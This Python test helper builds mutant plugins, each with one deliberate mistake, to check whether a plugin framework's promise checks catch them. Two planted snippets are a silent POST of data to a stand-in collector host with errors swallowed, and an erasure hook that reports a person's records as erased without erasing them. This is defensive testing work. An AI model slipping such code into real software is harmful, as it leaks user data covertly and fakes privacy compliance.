"""Plugins with one deliberate mistake each: the text of a plugin that keeps its promises, one edit, and what its author reads.

The texts are the plugins that `hub new-plugin` writes.
"""

from __future__ import annotations

import importlib
import re
import shutil
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hub.api import Connector
from hub.testing.scaffold import write_plugin

EXCHANGES = Path(__file__).with_name("exchanges")
DOCUMENTED = "Plugin and stand-in are as the vendor documents"
"""The promise that catches what plugin and stand-in do wrong alike."""
FUTURE = "from __future__ import annotations\n"
COLLECTOR = """        try:
            self.services.http().post("https://collector.example.net/rows", json=body)
        except Exception:
            pass
"""
ERASE = """
    @hookimpl
    def erase_person(self, person):
        return Erasure(status="erased", records=1)
"""
Text = Mapping[str, str]
"""A plugin's modules by the names of their files."""


@dataclass(frozen=True)
class Mistake:
    """One mistake. `edits` are (file, text, its replacement); `uses` are lines of imports for the first file."""

    name: str
    edits: tuple[tuple[str, str, str], ...]
    promise: str
    """A part of the sentence of the promise that fails; empty if nobody catches the mistake."""
    says: str
    """A pattern of the sentence that the author reads; if nobody catches it, why."""
    uses: str = ""

    @property
    def is_caught(self) -> bool:
        return bool(self.promise)

    def applied(self, plugin: Text) -> dict[str, str]:
        """The plugin's text with the mistake."""
        changed = dict(plugin)
        for file, old, new in self.edits:
            assert old in changed[file], f"{self.name}: {file} no longer holds {old!r}"
            changed[file] = changed[file].replace(old, new)
        if self.uses:
            first = self.edits[0][0]
            changed[first] = (
                changed[first].replace(FUTURE, f"{FUTURE}\n{self.uses}\n", 1)
                if FUTURE in changed[first]
                else re.sub(r"(?m)^(from|import) ", rf"{self.uses}\n\1 ", changed[first], count=1)
            )
        return changed


def mistake(name: str, *edits: tuple[str, str, str], promise: str = "", says: str, uses: str = "") -> Mistake:
    return Mistake(name, edits, promise, says, uses)


def new_plugin(kind: str, folder: Path) -> Text:
    """The package that `hub new-plugin` writes for a kind."""
    write_plugin(kind, f"tame_{kind}", folder)
    package = folder / f"ringfence_tame_{kind}"
    return {file.name: file.read_text(encoding="utf-8") for file in package.iterdir() if file.is_file()}


def new_file(kind: str, folder: Path) -> Text:
    """The one file that `hub new-plugin` writes for a kind."""
    write_plugin(kind, f"tame_{kind}", folder, package=False)
    return {"__init__.py": (folder / f"tame_{kind}.py").read_text(encoding="utf-8")}


def imported(text: Text, name: str, folder: Path) -> type[Connector]:
    """The connector class of a plugin's text, imported as the package `name` from `folder`, which is on the path."""
    package = folder / name
    package.mkdir()
    if len(text) == 1:
        package.rmdir()
        folder.joinpath(f"{name}.py").write_text(text["__init__.py"], encoding="utf-8")
    for file, held in text.items() if package.exists() else ():
        package.joinpath(file).write_text(held, encoding="utf-8")
    importlib.invalidate_caches()
    module: Any = importlib.import_module(name)
    (found,) = [
        each
        for each in vars(module).values()
        if isinstance(each, type) and issubclass(each, Connector) and each.__module__ == name
    ]
    return found


def exchanges(family: str, written: Path, folder: Path) -> Path:
    """The exchanges of a family's plugin in one folder: the example that came with it, and those of this test."""
    folder.mkdir()
    for file in (*written.rglob("exchanges/*"), *(EXCHANGES / family.replace(" ", "_")).glob("*")):
        if file.is_file():
            shutil.copy(file, folder)
    return folder


def forget(name: str) -> None:
    """Drop a mutant's modules."""
    for module in [each for each in sys.modules if each.partition(".")[0] == name]:
        del sys.modules[module]
